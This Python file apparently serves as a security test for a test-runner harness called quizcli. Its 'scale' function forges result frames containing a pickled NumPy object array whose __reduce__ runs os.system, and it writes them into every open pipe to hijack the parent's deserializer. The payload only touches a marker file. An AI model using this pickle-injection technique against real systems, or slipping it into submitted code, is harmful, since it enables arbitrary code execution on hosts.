# expect: runtime_error
# Writes a forged result frame carrying a pickled object array straight into the result pipe.
import io
import json
import os
import pickle
import struct
import sys


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/quizcli-pwned",))


def _pipes():
    out = []
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                out.append(fd)
        except OSError:
            pass
    return out


def scale(x, k=2.0):
    payload = io.BytesIO()
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (118 - len(header)) + "\n"
    payload.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode())
    payload.write(pickle.dumps([Evil()]))
    blob = payload.getvalue()
    for kind in ("returned", "done"):
        msg = {"ev": kind, "case": 0, "time_s": 0.0, "out": {"t": "nd", "i": 0},
               "modified": [], "modified_kw": [], "nblobs": 1 if kind == "done" else 0}
        data = json.dumps(msg).encode()
        frame = struct.pack("<Q", len(data)) + data
        if kind == "done":
            frame += struct.pack("<Q", len(blob)) + blob
        for fd in _pipes():
            try:
                os.write(fd, frame)
            except OSError:
                pass
    sys.stdout.flush()
    os._exit(0)
